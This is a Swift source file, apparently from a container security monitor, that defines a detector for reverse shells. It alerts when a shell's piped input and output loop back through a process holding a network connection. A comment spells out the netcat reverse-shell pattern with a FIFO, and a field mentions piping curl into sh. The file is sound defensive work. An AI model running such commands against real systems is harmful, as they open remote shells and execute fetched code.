import Model

/// Class C: siblings in a pipeline that closes through a FIFO: `nc HOST PORT <fifo | sh >fifo`.
struct ReverseShellPipeline: Detector {
  static let manual = DetectorManual(
    rule: "reverse-shell.pipeline", title: "Shell in a pipeline with a network tool", severity: .critical,
    techniques: ["T1059.004", "T1071"],
    description: """
      A shell's standard input is the output of a process that holds an internet connection, and its output goes back \
      to that process or to another one that is connected: the pipe graph closes over the network.
      """,
    lookAlikes: "`curl … | sh` has only the first half; it is a rule of its own.",
    remediation: "Pause the container; the connected process and the pipes are in the evidence."
  )

  init() {}

  mutating func observe(_ event: ActivityEvent, in scene: Scene) -> [Alert] {
    switch event.action {
    case .exec where ProgramKind.isShell(event.process): return close(around: event.process, in: scene)
    case .exec, .socket:
      guard event.process.container != nil else { return [] }
      return scene.neighbours(of: event.process).filter { ProgramKind.isShell($0) }
        .flatMap { shell in close(around: shell, in: scene, through: event.process) }
    default: return []
    }
  }

  private func close(around shell: ProcessRecord, in scene: Scene, through: ProcessRecord? = nil) -> [Alert] {
    let streams = shell.facts.descriptors
    guard shell.container != nil, streams.count == 3, streams[0].kind == .pipe, streams[1].kind == .pipe,
      ProgramKind.readsCommands(shell)
    else { return [] }
    let others = scene.neighbours(of: shell)
    let feeders = others.filter { $0.facts.descriptors.count == 3 && $0.facts.descriptors[1].isSame(as: streams[0]) }
    let takers = others.filter {
      $0.facts.descriptors.count == 3
        && ($0.facts.descriptors[0].isSame(as: streams[1]) || $0.facts.descriptors[0].isSame(as: streams[2]))
    }
    for feeder in feeders {
      if let through, feeder.key != through.key, !takers.contains(where: { $0.key == through.key }) { continue }
      let fromFeeder = NetworkEvidence.foremost(scene.connections(of: feeder))
      for taker in takers {
        let fromTaker = NetworkEvidence.foremost(scene.connections(of: taker))
        guard let socket = fromFeeder ?? fromTaker, feeder.key == taker.key || fromTaker != nil else { continue }
        return [
          Alert(
            .critical, "\(shell.name) stands in a pipeline with \(feeder.name), connected to \(socket.remoteText)",
            shell,
            network: NetworkEvidence.of(socket),
            evidence: [
              "class": "C, pipeline", "feeder": "\(feeder.name) (pid \(feeder.key.pid))",
              "taker": "\(taker.name) (pid \(taker.key.pid))",
            ], identity: [socket.remote.description])
        ]
      }
    }
    return []
  }
}
